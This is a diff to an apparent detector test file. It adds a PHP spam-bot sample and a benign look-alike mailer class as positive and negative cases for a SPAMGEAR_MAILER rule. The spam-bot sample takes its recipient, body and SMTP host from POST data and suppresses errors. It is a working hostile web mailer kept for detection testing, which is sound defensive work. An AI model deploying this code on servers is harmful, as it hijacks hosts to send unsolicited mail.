@@ -50,7 +50,24 @@ HIDDEN_NAME_NEAR = php(
     "foreach ($users as $x) { echo '<a href=\"' . 'ma' . 'il' . 'to:' . $x . '\">' . $x . '</a>'; }"
 )
 
+SPAM_BOT = php(
+    "@error_reporting(0);\n$to = urldecode($_POST['l']); $body = urldecode($_POST['d']);\n"
+    "if (!@mail($to, 'Hi', $body)) {\n"
+    "  $s = @fsockopen($_POST['m'], 25, $e, $es, 20);\n"
+    '  fputs($s, "MAIL FROM:<a@b.example>\\r\\n"); fputs($s, "RCPT TO:<$to>\\r\\n");\n'
+    '  fputs($s, "DATA\\r\\n"); fputs($s, $body . "\\r\\n.\\r\\n");\n}'
+)
+# Near-miss: a mail library class with an SMTP transport and a mail() transport.
+SPAM_BOT_NEAR = php(
+    "class Mailer {\n  function send($to, $body) {\n"
+    "    if (!mail($to, 'Hi', $body)) { $s = fsockopen($this->host, 25);"
+    ' fputs($s, "RCPT TO:<$to>\\r\\n"); fputs($s, "DATA\\r\\n"); }\n  }\n}\n'
+    "$m = new Mailer(); $m->send('owner@example.org', $_POST['msg']); error_reporting(0);"
+)
+
 CASES: list[tuple[str, bytes, bool]] = [
+    ("SPAMGEAR_MAILER_DualPathSpamBot", SPAM_BOT, True),
+    ("SPAMGEAR_MAILER_DualPathSpamBot", SPAM_BOT_NEAR, False),
     ("SPAMGEAR_MAILER_FileListBulkSend", FILE_LIST, True),
     ("SPAMGEAR_MAILER_FileListBulkSend", FILE_LIST_NEAR, False),
     ("SPAMGEAR_MAILER_DecodedRequestRelay", RELAY, True),
